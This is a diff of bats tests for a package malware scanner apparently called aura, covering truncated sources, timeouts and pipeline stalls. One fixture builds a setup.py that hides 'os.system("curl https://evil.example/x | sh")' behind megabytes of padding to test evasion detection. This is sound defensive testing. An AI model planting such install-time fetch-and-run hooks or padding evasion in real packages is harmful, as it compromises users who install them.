@@ -236,6 +236,90 @@ note"
 	assert_output '2,1,0,true'
 }
 
+@test "Python cut at --max-content is never clean: UnreadSource (high) and an error" {
+	python3 - "$F/cut.tar" <<'EOF'
+import io, sys, tarfile
+pad = b'# ' + b'x' * 2000 + b'\n'
+with tarfile.open(sys.argv[1], 'w') as t:
+    for name, data in (('p-1.0/setup.py', pad + b'import os\nos.system("id")\n'),
+                       ('p-1.0/p/__init__.py', pad + b'import os\n'),
+                       ('p-1.0/p/hook.pth', pad + b'import os\n'),
+                       ('p-1.0/data.txt', pad)):
+        ti = tarfile.TarInfo(name); ti.size = len(data)
+        t.addfile(ti, io.BytesIO(data))
+EOF
+	unpack --max-content 1K < <(artifact c "$F/cut.tar")
+	assert_success
+	run jq -c 'select(.type=="hit") | [.detection, .severity, .score, .path, .context, .tags]' <<<"$out"
+	assert_output '["UnreadSource","high",100,"p-1.0/setup.py","install",["archive","install-time"]]
+["UnreadSource","high",100,"p-1.0/p/__init__.py",null,["archive"]]
+["UnreadSource","high",100,"p-1.0/p/hook.pth","install",["archive","install-time"]]
+["LargeFile","info",0,"p-1.0/data.txt",null,["archive"]]'
+	run jq -r 'select(.type=="error") | .path + ": " + .message' <<<"$out"
+	assert_output "p-1.0/setup.py: Python source of 2029 bytes is bigger than --max-content (1024): only its head was analysed
+p-1.0/p/__init__.py: Python source of 2013 bytes is bigger than --max-content (1024): only its head was analysed
+p-1.0/p/hook.pth: .pth source of 2013 bytes is bigger than --max-content (1024): only its head was analysed"
+	assert_equal "$(end_of c)" \
+		'{"type":"artifact_end","v":1,"artifact":"c","files":4,"hits":4,"errors":3,"complete":false}'
+}
+
+@test "a payload behind 10.7 MB of padding in setup.py: aura scan is incomplete and high" {
+	mkdir -p "$F/pad-1.0"
+	python3 - "$F/pad-1.0/setup.py" <<'EOF'
+import base64, os, sys
+pad = base64.b64encode(os.urandom(8 << 20)).decode()	# incompressible, 11.2 MB
+open(sys.argv[1], 'w').write('from setuptools import setup\n# ' + pad + '\nimport os\n'
+                             'os.system("curl https://evil.example/x | sh")\nsetup(name="pad")\n')
+EOF
+	tar -C "$F" -czf "$F/pad-1.0.tar.gz" pad-1.0
+	run --separate-stderr aura scan --format json --fail-level medium "$F/pad-1.0.tar.gz"
+	assert_failure 2	# incomplete: the scan cannot vouch for the package
+	assert_jq "$output" '.complete == false and .risk == "high"'
+	assert_jq "$output" '[.hits[] | select(.detection == "UnreadSource" and .severity == "high")] | length == 1'
+	assert_jq "$output" '.errors[0].message | test("bigger than --max-content")'
+	# Even when incompleteness is allowed, the gate holds.
+	run --separate-stderr aura scan --format json --fail-level medium --allow-errors "$F/pad-1.0.tar.gz"
+	assert_failure 1
+}
+
+@test "a file id is never cut, however long the artifact id" {
+	local id
+	id=$(printf 'é%.0s' $(seq 600))
+	run --separate-stderr aura-unpack < <(jq -nc --arg id "$id" --arg p "$F/single.py" \
+		'{type:"artifact",v:1,id:$id,path:$p,kind:"file"}')
+	run jq -r 'select(.type=="file") | .id' <<<"$output"
+	assert_output "$id:0"
+}
+
+@test "the verdict does not depend on load: a downstream stage stopped past --timeout loses nothing" {
+	# 2,000 modules: megabytes of records, far more than the pipes between stages hold, so
+	# the unpack worker blocks writing while aura-parse is stopped.
+	python3 - "$F/many" <<'EOF'
+import os, sys
+for i in range(2000):
+    d = f'{sys.argv[1]}/m{i // 100:02}'
+    os.makedirs(d, exist_ok=True)
+    open(f'{d}/mod{i:04}.py', 'w').write(f'"""Module {i}."""\n' + 'x = 1  # padding\n' * 80)
+EOF
+	artifact many "$F/many" directory > "$F/in"
+	aura-unpack --timeout 2 < "$F/in" | aura-parse > "$F/calm"
+	# The same, with aura-parse stopped for 5 s (more than the 2 s limit) before it reads.
+	local pidfile="$F/parse.pid" start
+	start=$(date +%s)
+	{ aura-unpack --timeout 2 < "$F/in" |
+		(echo "$BASHPID" > "$pidfile"; kill -STOP "$BASHPID"; exec aura-parse) > "$F/stopped"; } &
+	local job=$!
+	while [ ! -s "$pidfile" ]; do sleep 0.05; done
+	sleep 5
+	kill -CONT "$(cat "$pidfile")"
+	wait "$job"
+	[ $(( $(date +%s) - start )) -ge 5 ] || fail "the stage was not stopped"
+	assert_equal "$(grep -c '"type":"file"' "$F/stopped")" 2000
+	run jq -c 'select(.type=="artifact_end") | [.files, .errors, .complete]' "$F/stopped"
+	assert_output '[2000,0,true]'
+	cmp "$F/calm" "$F/stopped" || fail "a stopped downstream stage changed the records"
+}
+
 @test "--max-members stops the archive with an ArchiveBomb hit" {
 	unpack --max-members 5 < <(artifact m "$F/many.tar"; artifact s "$F/single.py" file)
 	assert_success
@@ -271,16 +355,38 @@ m04.txt"
 	assert_output "ArchiveBomb"
 }
 
-@test "--timeout kills a worker that takes too long; the stream goes on" {
+@test "--timeout kills a worker that uses too much CPU time; the stream goes on" {
 	unpack --max-ratio 0 --max-total 1000G --max-member 1000G --timeout 1 \
 		< <(artifact sp "$F/sparse.tar"; artifact s "$F/single.py" file)
 	assert_success
 	run jq -c 'select(.type=="error") | [.artifact, .message]' <<<"$out"
-	assert_output '["sp","worker exceeded the time limit of 1 s; killed"]'
+	assert_output '["sp","worker exceeded the CPU time limit of 1 s (--timeout); killed"]'
 	assert_equal "$(end_of sp)" \
 		'{"type":"artifact_end","v":1,"artifact":"sp","files":0,"hits":0,"errors":1,"complete":false}'
 	assert_equal "$(end_of s)" \
 		'{"type":"artifact_end","v":1,"artifact":"s","files":1,"hits":0,"errors":0,"complete":true}'
+}
+
+@test "a worker that sleeps instead of working is killed after --timeout seconds; the stream goes on" {
+	# The worker hashes a 100 GB sparse member (CPU-bound); stopped, it does nothing at all,
+	# which its CPU limit alone would never end.
+	local fifo="$F/in.fifo" pid worker w
+	mkfifo "$fifo"
+	aura-unpack --max-ratio 0 --max-total 1000G --max-member 1000G --timeout 2 \
+		< "$fifo" > "$F/out" 2>/dev/null &
+	pid=$!
+	exec {w}> "$fifo"	# (bats keeps fd 3 for itself)
+	artifact sp "$F/sparse.tar" >&"$w"
+	while ! worker=$(pgrep -P "$pid"); do sleep 0.05; done
+	kill -STOP "$worker"
+	artifact s "$F/single.py" file >&"$w"
+	exec {w}>&-
+	wait "$pid"
+	run jq -c 'select(.type=="error") | [.artifact, .message]' "$F/out"
+	assert_output '["sp","worker slept for 2 s with nothing to write (neither working nor waiting for the next stage); killed"]'
+	run jq -c 'select(.type=="artifact_end") | [.artifact, .complete]' "$F/out"
+	assert_output '["sp",false]
+["s",true]'
 }
 
 @test "a missing path, a wrong kind and a bad record are errors, and the stream goes on" {
